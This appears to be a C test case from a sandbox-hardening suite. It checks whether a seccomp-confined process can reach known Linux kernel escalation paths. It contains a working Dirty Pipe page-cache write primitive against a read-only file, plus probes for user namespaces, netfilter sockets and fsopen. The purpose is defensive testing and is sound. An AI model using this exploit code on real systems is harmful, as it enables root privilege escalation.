/* threat: 1.6-lpe
 * attack: knock at the doors of known kernel bugs: fsconfig, nf_tables in a user namespace, the spliced page cache
 * expect: status=ok; denials~fsopen
 * limits: --mount {bait}/shared:/data
 * control: seccomp
 * bare: pwned as root
 */
#include "attack.h"

static void dirty_pipe(const char *path)
{
    int pipe_ends[2], fd = open(path, O_RDONLY);
    char block[4096] = {0}, before = 0, after = 0;
    if (fd < 0 || pipe(pipe_ends) || pread(fd, &before, 1, 1) != 1)
        return;
    int size = fcntl(pipe_ends[1], F_GETPIPE_SZ);
    for (int left = size; left > 0; left -= (int)sizeof block)
        if (write(pipe_ends[1], block, sizeof block) < 0)
            return;
    for (int left = size; left > 0; left -= (int)sizeof block)
        if (read(pipe_ends[0], block, sizeof block) < 0)
            return;
    loff_t offset = 0;
    if (splice(fd, &offset, pipe_ends[1], NULL, 1, 0) == 1 && write(pipe_ends[1], "X", 1) == 1 && pread(fd, &after, 1, 1) == 1 && after != before)
        pwned("wrote into the page cache of a read-only file");
}

int main(void)
{
    dirty_pipe("/data/keep.txt");
    if (!unshare(CLONE_NEWUSER | CLONE_NEWNET))
        pwned("user and network namespace");
    if (socket(AF_NETLINK, SOCK_RAW, 12) >= 0)
        pwned("netfilter socket");
    if (syscall(SYS_fsopen, "ext4", 0) >= 0)
        pwned("fsopen");
    return held();
}
